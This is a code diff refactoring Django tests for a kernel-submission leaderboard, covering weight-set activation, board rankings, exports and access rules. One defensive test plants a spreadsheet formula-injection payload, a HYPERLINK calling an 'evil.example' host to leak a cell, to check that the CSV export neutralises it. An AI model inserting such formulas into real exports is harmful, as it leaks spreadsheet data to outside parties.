@@ -13,89 +13,56 @@ from django.core.management import call_command
 from django.db import IntegrityError
 from django.test import Client
 
-from evaluation.catalog.importing import release_import
-from evaluation.catalog.models import HardwareProfile, Release, Shape
 from leaderboard.models import SubmissionScore, WeightSet
-from leaderboard.services import weight_set_activate, weight_set_create
+from leaderboard.services import weight_set_activate
 from portal.audit.models import AuditEntry
-from submissions.models import Candidate, EvaluationJob, ShapeResult, Submission
+from submissions.models import EvaluationJob, ShapeResult, Submission
+from tests.builders import scored_submission
 from tests.conftest import FIXTURE_RELEASE
-from tests.factories import TeamFactory
+from tests.factories import UserFactory
+from tests.leaderboard.boards import WeighedWorld, board, build_weighed_world
 
 pytestmark = pytest.mark.django_db
 
 
-def scored_submission(release: Release, team_name: str, attainment: dict[str, float],
-                      status: str = "passed", dsl: str | dict[str, str] = "triton",
-                      verdict: str = "native") -> Submission:
-    """A submission whose every shape of each operator reached `attainment[operator]`, its
-    files declared in `dsl` (one for all, or per operator)."""
-    team = TeamFactory(name=team_name)
-    submission = Submission.objects.create(team=team, release=release,
-                                           hardware=HardwareProfile.objects.get(name="H200"))
-    for operator, value in attainment.items():
-        op = release.operators.get(name=operator)
-        declared = dsl if isinstance(dsl, str) else dsl.get(operator, "triton")
-        candidate = Candidate.objects.create(submission=submission, operator=op,
-                                             source="class Model: pass", sha256="0" * 64,
-                                             dsl=declared)
-        job = EvaluationJob.objects.create(candidate=candidate, status="scored", attempts=1)
-        for shape in Shape.objects.filter(operator=op):
-            ShapeResult.objects.create(job=job, attempt=1, shape=shape, status=status,
-                                       verdict=verdict if status == "passed" else "",
-                                       attainment=value, raw={})
-    return submission
-
-
 @pytest.fixture
-def world() -> dict[str, Any]:
-    release = release_import(path=FIXTURE_RELEASE).release
-    scored_submission(release, "Red", {"rms_norm": 0.8, "gemm_fp16": 0.2})
-    scored_submission(release, "Blue", {"rms_norm": 0.2, "gemm_fp16": 0.6})
-    norm_only = weight_set_create(release=release, weights={"rms_norm": 1}, source="manual")
-    gemm_only = weight_set_create(release=release, weights={"gemm_fp16": 3}, source="manual")
-    return {"release": release, "norm_only": norm_only, "gemm_only": gemm_only}
+def world() -> WeighedWorld:
+    return build_weighed_world()
 
 
-def board(release: Release, version: int | None = None) -> list[tuple[str, float]]:
-    query = f"?weights={version}" if version else ""
-    rows = Client().get(f"/api/boards/{release.pk}/H200/{query}").json()["rows"]
-    return [(r["team"], round(r["aggregate"], 6)) for r in rows]
-
-
-def test_activating_weights_reorders_the_board_without_running_anything(world: dict[str, Any]) -> None:
-    release = world["release"]
+def test_activating_weights_reorders_the_board_without_running_anything(world: WeighedWorld) -> None:
+    release = world.release
     jobs_before = list(EvaluationJob.objects.values_list("pk", "status", "attempts"))
     with mock.patch("submissions.jobs.dispatch_job") as dispatch:
-        assert weight_set_activate(weight_set=world["norm_only"], actor=None) == 2
+        assert weight_set_activate(weight_set=world.norm_only, actor=None) == 2
         assert board(release) == [("Red", 0.8), ("Blue", 0.2)]
-        weight_set_activate(weight_set=world["gemm_only"], actor=None)
+        weight_set_activate(weight_set=world.gemm_only, actor=None)
         assert board(release) == [("Blue", 0.6), ("Red", 0.2)]
     dispatch.assert_not_called()
     assert list(EvaluationJob.objects.values_list("pk", "status", "attempts")) == jobs_before
     # The old version's board is unchanged and can still be viewed.
-    assert board(release, world["norm_only"].version) == [("Red", 0.8), ("Blue", 0.2)]
-    assert WeightSet.objects.filter(release=release, active=True).get() == world["gemm_only"]
+    assert board(release, world.norm_only.version) == [("Red", 0.8), ("Blue", 0.2)]
+    assert WeightSet.objects.filter(release=release, active=True).get() == world.gemm_only
     entry = AuditEntry.objects.filter(action="weights.activate").first()
-    assert entry is not None and entry.after == {"active_version": world["gemm_only"].version}
+    assert entry is not None and entry.after == {"active_version": world.gemm_only.version}
 
 
-def test_weights_are_normalised_and_versions_are_immutable_rows(world: dict[str, Any]) -> None:
-    assert world["gemm_only"].weights["gemm_fp16"] == 1.0
-    assert world["gemm_only"].weights["rms_norm"] == 0.0
-    assert world["gemm_only"].version == world["norm_only"].version + 1
+def test_weights_are_normalised_and_versions_are_immutable_rows(world: WeighedWorld) -> None:
+    assert world.gemm_only.weights["gemm_fp16"] == 1.0
+    assert world.gemm_only.weights["rms_norm"] == 0.0
+    assert world.gemm_only.version == world.norm_only.version + 1
 
 
-def test_two_active_weight_sets_are_impossible(world: dict[str, Any]) -> None:
-    WeightSet.objects.filter(release=world["release"]).update(active=False)
-    WeightSet.objects.filter(pk=world["norm_only"].pk).update(active=True)
+def test_two_active_weight_sets_are_impossible(world: WeighedWorld) -> None:
+    WeightSet.objects.filter(release=world.release).update(active=False)
+    WeightSet.objects.filter(pk=world.norm_only.pk).update(active=True)
     with pytest.raises(IntegrityError):
-        WeightSet.objects.filter(pk=world["gemm_only"].pk).update(active=True)
+        WeightSet.objects.filter(pk=world.gemm_only.pk).update(active=True)
 
 
-def test_board_page_json_and_csv_show_the_same_numbers(world: dict[str, Any]) -> None:
-    release = world["release"]
-    weight_set_activate(weight_set=world["norm_only"], actor=None)
+def test_board_page_json_and_csv_show_the_same_numbers(world: WeighedWorld) -> None:
+    release = world.release
+    weight_set_activate(weight_set=world.norm_only, actor=None)
     base = f"/boards/{release.pk}/H200/"
     page = Client().get(base).content.decode()
     json_rows = Client().get(f"/api/boards/{release.pk}/H200/").json()["rows"]
@@ -110,11 +77,11 @@ def test_board_page_json_and_csv_show_the_same_numbers(world: dict[str, Any]) ->
     assert [r["team"] for r in json_rows] == ["Red", "Blue"]
 
 
-def test_a_suspicious_result_keeps_the_submission_off_the_board(world: dict[str, Any]) -> None:
+def test_a_suspicious_result_keeps_the_submission_off_the_board(world: WeighedWorld) -> None:
     ShapeResult.objects.filter(job__candidate__submission__team__name="Red").update(
         suspicious=True)
-    weight_set_activate(weight_set=world["norm_only"], actor=None)
-    assert board(world["release"]) == [("Blue", 0.2)]
+    weight_set_activate(weight_set=world.norm_only, actor=None)
+    assert board(world.release) == [("Blue", 0.2)]
     assert SubmissionScore.objects.filter(ranked=False).count() == 1
 
 
@@ -126,10 +93,10 @@ def test_import_release_creates_the_first_weight_set_active(capsys: pytest.Captu
         [0.05, 0.12, 0.10, 0.30, 0.08, 0.35]))
 
 
-def test_the_operator_board_ranks_teams_by_their_operator_score(world: dict[str, Any]) -> None:
-    release = world["release"]
+def test_the_operator_board_ranks_teams_by_their_operator_score(world: WeighedWorld) -> None:
+    release = world.release
     scored_submission(release, "Green", {"rms_norm": 0.0}, status="failed")  # wrong everywhere
-    weight_set_activate(weight_set=world["norm_only"], actor=None)
+    weight_set_activate(weight_set=world.norm_only, actor=None)
     data = Client().get(f"/api/boards/{release.pk}/H200/operators/gemm_fp16/").json()
     assert [(r["team"], r["score"]) for r in data["rows"]] == [("Blue", 0.6), ("Red", 0.2)]
     assert data["solve_rate"] == 1.0 and data["median_score"] == pytest.approx(0.4)
@@ -141,22 +108,20 @@ def test_the_operator_board_ranks_teams_by_their_operator_score(world: dict[str,
     assert missing.status_code == 404
 
 
-def test_what_changed_between_two_versions(world: dict[str, Any]) -> None:
-    release = world["release"]
-    weight_set_activate(weight_set=world["norm_only"], actor=None)
-    weight_set_activate(weight_set=world["gemm_only"], actor=None)
-    before, after = world["norm_only"].version, world["gemm_only"].version
+def test_what_changed_between_two_versions(world: WeighedWorld) -> None:
+    release = world.release
+    weight_set_activate(weight_set=world.norm_only, actor=None)
+    weight_set_activate(weight_set=world.gemm_only, actor=None)
+    before, after = world.norm_only.version, world.gemm_only.version
     data = Client().get(f"/api/boards/{release.pk}/H200/changes/?from={before}&to={after}").json()
     moves = {r["team"]: (r["rank_before"], r["rank_after"], r["move"]) for r in data["rows"]}
     assert moves == {"Red": (1, 2, -1), "Blue": (2, 1, 1)}
 
 
-def test_admins_create_and_activate_weights_in_the_page(world: dict[str, Any]) -> None:
-    from tests.factories import UserFactory
-
-    release = world["release"]
+def test_admins_create_and_activate_weights_in_the_page(world: WeighedWorld) -> None:
+    release = world.release
     admin = Client()
-    admin.force_login(UserFactory(username="root", is_staff=True))
+    admin.force_login(world.root)
     url = f"/staff/releases/{release.pk}/weights/"
     assert admin.post(url, {"w_rms_norm": "-1"}).status_code == 400  # negative refused
     assert admin.post(url, {"w_rms_norm": "0"}).status_code == 400  # none positive
@@ -177,13 +142,11 @@ def test_admins_create_and_activate_weights_in_the_page(world: dict[str, Any]) -
 
 
 def test_submission_charts_give_points_and_operator_scores_to_the_team_only(
-        world: dict[str, Any]) -> None:
-    from tests.factories import member_of
-
-    weight_set_activate(weight_set=world["norm_only"], actor=None)
+        world: WeighedWorld) -> None:
+    weight_set_activate(weight_set=world.norm_only, actor=None)
     red = Submission.objects.get(team__name="Red")
     client = Client()
-    client.force_login(member_of(red.team, "ruby"))
+    client.force_login(world.ruby)
     data = client.get(f"/api/submissions/{red.pk}/charts/").json()
     assert len(data["points"]) == 8 + 8  # every shape of rms_norm and gemm_fp16
     assert {p["attainment"] for p in data["points"]} == {0.8, 0.2}
@@ -193,9 +156,9 @@ def test_submission_charts_give_points_and_operator_scores_to_the_team_only(
     assert Client().get(f"/api/submissions/{red.pk}/charts/").status_code == 404
 
 
-def test_the_operator_board_page_shows_the_json_numbers(world: dict[str, Any]) -> None:
-    release = world["release"]
-    weight_set_activate(weight_set=world["norm_only"], actor=None)
+def test_the_operator_board_page_shows_the_json_numbers(world: WeighedWorld) -> None:
+    release = world.release
+    weight_set_activate(weight_set=world.norm_only, actor=None)
     page = Client().get(f"/boards/{release.pk}/H200/operators/gemm_fp16/").content.decode()
     cells = re.findall(r"<tr><td>(\d+)</td><td>([^<]+)</td><td>#\d+</td><td class=\"num\">([\d.]+)<",
                        page)
@@ -206,9 +169,9 @@ def test_the_operator_board_page_shows_the_json_numbers(world: dict[str, Any]) -
     assert "solve rate (correct and native on every shape)\n   1.00" in page
 
 
-def test_the_csv_export_neutralises_formulas_in_team_supplied_text(world: dict[str, Any]) -> None:
-    release = world["release"]
-    weight_set_activate(weight_set=world["norm_only"], actor=None)
+def test_the_csv_export_neutralises_formulas_in_team_supplied_text(world: WeighedWorld) -> None:
+    release = world.release
+    weight_set_activate(weight_set=world.norm_only, actor=None)
     hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
     Submission.objects.filter(team__name="Red").update(agent=hyperlink, model_name="@SUM(1)")
     exported = list(csv.DictReader(io.StringIO(Client().get(
@@ -235,10 +198,10 @@ def test_csv_cells_that_start_like_formulas_are_text_and_numbers_stay_numbers() 
     assert all(exported[c] == "" for c in NUMBER_COLUMNS if c != "aggregate")
 
 
-def test_the_exports_are_documented_public_api_views(world: dict[str, Any]) -> None:
+def test_the_exports_are_documented_public_api_views(world: WeighedWorld) -> None:
     """Every board export is in the OpenAPI schema; a public board ignores credentials (a
     stale token in a script is no 401) and answers errors as JSON, CSV asked for or not."""
-    release = world["release"]
+    release = world.release
     schema = Client().get("/api/schema/?format=json").json()
     for path in ("/api/boards/{id}/{hardware}/", "/api/boards/{id}/{hardware}/{board}/",
                  "/api/boards/{id}/{hardware}/operators/{operator}/",
@@ -249,7 +212,7 @@ def test_the_exports_are_documented_public_api_views(world: dict[str, Any]) -> N
     assert {p["name"] for p in board_op["parameters"]} >= {"weights", "board", "all", "sort",
                                                            "format"}
     stale = Client(headers={"Authorization": "Bearer atx_revoked-long-ago"})
-    answer = stale.get(f"/api/boards/{release.pk}/H200/?weights={world['norm_only'].version}")
+    answer = stale.get(f"/api/boards/{release.pk}/H200/?weights={world.norm_only.version}")
     assert answer.status_code == 200 and isinstance(answer.json()["rows"], list)
     for missing in (f"/api/boards/{release.pk}/H200/?format=csv&weights=99",
                     f"/api/boards/{release.pk}/H200/nope/?format=csv",
@@ -258,7 +221,7 @@ def test_the_exports_are_documented_public_api_views(world: dict[str, Any]) -> N
         assert response.status_code == 404 and response["Content-Type"] == "application/json"
         assert "detail" in response.json()
     # ?format decides, whatever the Accept header a script sends (the atrex CLI's is JSON)
-    version = world["norm_only"].version
+    version = world.norm_only.version
     as_csv = Client(headers={"Accept": "application/json"}).get(
         f"/api/boards/{release.pk}/H200/?format=csv&weights={version}")
     assert as_csv.status_code == 200 and as_csv["Content-Type"].startswith("text/csv")
